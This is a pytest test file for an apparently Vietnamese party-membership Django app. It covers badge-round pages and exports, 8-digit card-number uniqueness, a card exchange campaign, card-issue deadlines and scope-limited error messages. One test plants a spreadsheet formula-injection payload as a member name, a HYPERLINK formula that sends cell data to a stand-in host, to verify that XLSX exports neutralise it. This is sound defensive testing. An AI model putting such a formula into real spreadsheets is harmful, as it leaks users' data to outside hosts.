"""The badge page (a unit's round, flags, downloads), the card exchange of 2025, the card checks of
the member events (8 digits, unique without revealing members outside the scope) and the card_issue
deadline of the registry."""

import datetime as dt
import io

import pytest
from docx import Document

from xaydungdang.conftest import person
from xaydungdang.core.models import AuditEntry
from xaydungdang.members import actions
from xaydungdang.members.models import MemberEvent

D = dt.date
pytestmark = pytest.mark.django_db


@pytest.fixture
def veterans(tree, people):
    """Official members of C1 and GC with long party ages."""
    made = {}
    for key, no, name, joined, cell in (
        ("tam", "M030", "Trương Văn Tâm", D(1996, 8, 1), "C1"),
        ("tu", "M031", "Lâm Thị Tư", D(1997, 3, 1), "C1"),
        ("sau", "M032", "Châu Văn Sáu", D(1990, 1, 1), "GC"),
    ):
        official = D(joined.year + 1, joined.month, joined.day)
        made[key] = actions.enter_member(
            person(no, name, birth_date=D(1970, 1, 1), joined_on=joined, official_on=official),
            entry="opening",
            cell=tree[cell],
            on=D(2016, 1, 1),
        )
    return made


def test_the_round_page_lists_flags_and_downloads(client_for, veterans):
    client = client_for("staff_u1")
    page = client.get("/to-chuc/G1/huy-hieu-dang/?dot=2026-09-02")
    assert page.status_code == 200
    text = page.content.decode()
    assert "Trương Văn Tâm" in text and "Lâm Thị Tư" not in text.split('id="truong-hop"')[0].split("Trường hợp trao")[0]
    assert "Châu Văn Sáu" not in text  # GC is outside G1
    done = client.post(
        "/to-chuc/G1/huy-hieu-dang/?dot=2026-09-02",
        {"so_ly_lich": "M031", "kind": "early", "noted_on": "01/06/2026", "note": "Bệnh viện tỉnh xác nhận"},
    )
    assert done.status_code == 302
    text = client.get("/to-chuc/G1/huy-hieu-dang/?dot=2026-09-02").content.decode()
    table = text.split('id="de-nghi"')[1].split("</table>")[0]
    assert "Lâm Thị Tư" in table and "Trao sớm (ốm nặng)" in table
    assert AuditEntry.objects.filter(action="badgeflag.record", member_id=veterans["tu"].id).exists()
    bad = client.post(
        "/to-chuc/G1/huy-hieu-dang/?dot=2026-09-02", {"so_ly_lich": "M032", "kind": "early", "noted_on": "01/06/2026"}
    )
    assert bad.status_code == 200 and "Không tìm thấy đảng viên số lý lịch M032" in bad.content.decode()
    posthumous = client.post(
        "/to-chuc/G1/huy-hieu-dang/?dot=2026-09-02",
        {"so_ly_lich": "M030", "kind": "posthumous", "noted_on": "01/06/2026"},
    )
    assert "chỉ truy tặng cho đảng viên đã từ trần" in posthumous.content.decode()
    response = client.get("/to-chuc/G1/huy-hieu-dang/tai/docx/?dot=2026-09-02")
    assert response.status_code == 200 and response["Content-Disposition"].endswith('huy-hieu-dang-G1-2026-09-02.docx"')
    document = Document(io.BytesIO(response.content))
    cells = "\n".join(c.text for row in document.tables[1].rows for c in row.cells)
    assert "Trương Văn Tâm" in cells and "Lâm Thị Tư" in cells
    export = AuditEntry.objects.get(action="badges.export")
    assert export.org_id == veterans["tam"].current_cell.parent_id and export.after["format"] == "DOCX"
    xlsx = client.get("/to-chuc/G1/huy-hieu-dang/tai/xlsx/?dot=2026-09-02")
    assert xlsx.status_code == 200 and xlsx.content[:2] == b"PK"
    # voiding the flag takes the early case off the list
    from xaydungdang.badges.models import BadgeFlag

    flag = BadgeFlag.objects.get(member=veterans["tu"])
    client.post("/to-chuc/G1/huy-hieu-dang/?dot=2026-09-02", {"huy": flag.pk, "ly_do": "Ghi nhầm"})
    text = client.get("/to-chuc/G1/huy-hieu-dang/?dot=2026-09-02").content.decode()
    assert "Lâm Thị Tư" not in text.split('id="de-nghi"')[1].split("</table>")[0]


def test_bad_round_and_foreign_unit(client_for, veterans):
    client = client_for("staff_u1")
    page = client.get("/to-chuc/G1/huy-hieu-dang/?dot=2026-09-03")
    assert page.status_code == 200 and "không phải đợt trao Huy hiệu Đảng" in page.content.decode()
    assert client.get("/to-chuc/G1/huy-hieu-dang/?dot=abc").status_code == 200
    assert client.get("/to-chuc/GC/huy-hieu-dang/").status_code == 404
    assert client.get("/to-chuc/GC/huy-hieu-dang/tai/docx/?dot=2026-09-02").status_code == 404
    assert client.get("/to-chuc/G1/huy-hieu-dang/tai/pdf/?dot=2026-09-02").status_code == 404
    viewer = client_for("viewer_u1")
    refused = viewer.post(
        "/to-chuc/G1/huy-hieu-dang/", {"so_ly_lich": "M031", "kind": "early", "noted_on": "01/06/2026"}
    )
    assert refused.status_code == 403


def test_card_numbers_are_8_digits_and_unique(client_for, veterans, users):
    from xaydungdang.core.context import Actor, acting_as
    from xaydungdang.core.errors import DomainError

    actions.record_event(veterans["sau"], "card_issued", D(2020, 1, 1), reason="12345678")
    with pytest.raises(DomainError, match="8 chữ số"):
        actions.record_event(veterans["tam"], "card_issued", D(2020, 1, 1), reason="1234567")
    with pytest.raises(DomainError, match="đã cấp cho đảng viên M032"):
        actions.record_event(veterans["tam"], "card_issued", D(2020, 1, 1), reason="12345678")
    # a user of U1 does not see M032 (GC): the neutral message, audited
    client = client_for("staff_u1")
    page = client.post(
        f"/dang-vien/{veterans['tam'].pk}/bien-dong/cap-lai-the/", {"on": "01/03/2021", "reason": "12345678"}
    )
    text = page.content.decode()
    assert page.status_code == 200 and "trùng với dữ liệu đã có" in text and "M032" not in text
    assert AuditEntry.objects.filter(action="member.clash", user=users["staff_u1"]).exists()
    done = client.post(
        f"/dang-vien/{veterans['tam'].pk}/bien-dong/cap-lai-the/", {"on": "01/03/2021", "reason": "87654321"}
    )
    assert done.status_code == 302
    veterans["tam"].refresh_from_db()
    assert veterans["tam"].card_no == "87654321"
    # a member keeps their own number when exchanging
    with acting_as(Actor(via="test")):
        actions.record_event(veterans["tam"], "card_replaced", D(2021, 6, 1), reason="87654321")


def test_card_exchange_campaign(client_for, veterans):
    client = client_for("staff_u1")
    actions.record_event(veterans["tu"], "card_replaced", D(2025, 8, 20), reason="20250001")
    page = client.get("/to-chuc/G1/doi-the-dang-vien/")
    text = page.content.decode()
    assert page.status_code == 200 and "Trương Văn Tâm" in text and "Lâm Thị Tư" not in text
    bad = client.post("/to-chuc/G1/doi-the-dang-vien/", {"ngay": "25/08/2025", f"so_the_{veterans['tam'].pk}": "2025"})
    assert "8 chữ số" in bad.content.decode()
    done = client.post(
        "/to-chuc/G1/doi-the-dang-vien/", {"ngay": "25/08/2025", f"so_the_{veterans['tam'].pk}": "20250002"}
    )
    assert done.status_code == 302
    event = MemberEvent.objects.get(member=veterans["tam"], type="card_replaced")
    assert event.on == D(2025, 8, 25) and event.reason == "20250002" and "51-CT/TW" in event.note
    assert "Trương Văn Tâm" not in client.get("/to-chuc/G1/doi-the-dang-vien/").content.decode()
    assert client.get("/to-chuc/GC/doi-the-dang-vien/").status_code == 404


def test_card_issue_deadline(tree, people):
    from xaydungdang.core import deadlines

    an = people["an"]  # joined 1/1/2016, probationary
    actions.record_event(an, "recognized_official", D(2017, 1, 1), decided_on=D(2025, 8, 25))

    def open_on(day):
        return [d for d in deadlines.open_deadlines(on=day, root_org_id=tree["G1"].id) if d.kind == "card_issue"]

    assert open_on(D(2025, 8, 24)) == []  # the decision is not known yet
    found = open_on(D(2025, 8, 26))
    assert len(found) == 1 and found[0].member_no == "M001"
    # 30 working days after 25/8/2025: 2/9 and 1/9 (National Day) are days off
    from xaydungdang.core.workdays import add_working_days

    assert found[0].due_on == add_working_days(D(2025, 8, 25), 30)
    assert found[0].due_on == D(2025, 10, 8)
    assert "25/08/2025" in found[0].basis
    assert open_on(D(2025, 10, 9))[0].overdue(D(2025, 10, 9))
    actions.record_event(an, "card_issued", D(2025, 10, 1), reason="11112222")
    assert open_on(D(2025, 10, 2)) == []
    assert len(open_on(D(2025, 9, 30))) == 1  # done later: still open on that day
    assert [
        d for d in deadlines.open_deadlines(on=D(2025, 9, 30), root_org_id=tree["U2"].id) if d.kind == "card_issue"
    ] == []


def test_the_xlsx_list_has_no_live_formula(tree, people):
    """badges/documents.py in the hostile-writer registry (web/tests/test_hostile_spreadsheets.py)."""
    from openpyxl import load_workbook

    from xaydungdang.badges import documents, eligibility
    from xaydungdang.core.spreadsheet import formula_like

    hostile = '=HYPERLINK("http://x"&A1,"y")'
    actions.enter_member(
        person("M040", hostile, birth_date=D(1970, 1, 1), joined_on=D(1990, 1, 1), official_on=D(1991, 1, 1)),
        entry="opening",
        cell=tree["C1"],
        on=D(2016, 1, 1),
    )
    rows = eligibility.proposals(tree["G1"].id, D(2026, 9, 2))
    assert [p.full_name for p in rows] == [hostile]
    sheet = load_workbook(io.BytesIO(documents.xlsx(tree["G1"], D(2026, 9, 2), rows))).active
    values = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(hostile in v for v in values)
    assert not [v for v in values if formula_like(v) and not v.startswith("'")]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_a_card_number_in_the_personal_data_is_unique_too(veterans):
    from xaydungdang.core.errors import DomainError

    actions.record_event(veterans["sau"], "card_issued", D(2020, 1, 1), reason="12345678")
    tam = veterans["tam"]
    data = {f: getattr(tam, f) for f in ("member_no", "full_name", "gender", "birth_date", "ethnicity", "joined_on")}
    with pytest.raises(DomainError, match="Số thẻ đảng viên 12345678 đã cấp cho đảng viên M032") as refused:
        actions.update_member(tam, data | {"card_no": "12345678"}, tam.version)
    assert refused.value.problems[0].field == "card_no"
    updated = actions.update_member(tam, data | {"card_no": "55556666"}, tam.version)
    assert updated.card_no == "55556666"
    # unchanged: not checked again
    updated = actions.update_member(
        updated, data | {"card_no": "55556666", "full_name": "Trương Văn Tâm Sửa"}, updated.version
    )
    # a new number must have 8 digits, said under the field
    with pytest.raises(DomainError, match="gồm đúng 8 chữ số") as refused:
        actions.update_member(updated, data | {"card_no": "B000000"}, updated.version)
    assert refused.value.problems[0].field == "card_no"


def test_a_unit_code_no_organization_can_have_is_said_under_the_field(client_for, tree):
    """The unit box: a code with '/' (which no URL can hold) answers the page with the message under the
    field, not a 500 (found by the query-parameter fuzz); a real code goes to the round's list."""
    client = client_for("staff_u1")
    response = client.get("/huy-hieu-dang/", {"to_chuc": "31/02/2023"})
    assert response.status_code == 200
    html = response.content.decode()
    assert "Mã tổ chức đảng «31/02/2023» không hợp lệ." in html and 'class="form-control is-invalid"' in html
    response = client.get("/huy-hieu-dang/", {"to_chuc": "C1", "dot": "2026-09-02"})
    assert response.status_code == 302 and response["Location"].endswith("/to-chuc/C1/huy-hieu-dang/?dot=2026-09-02")
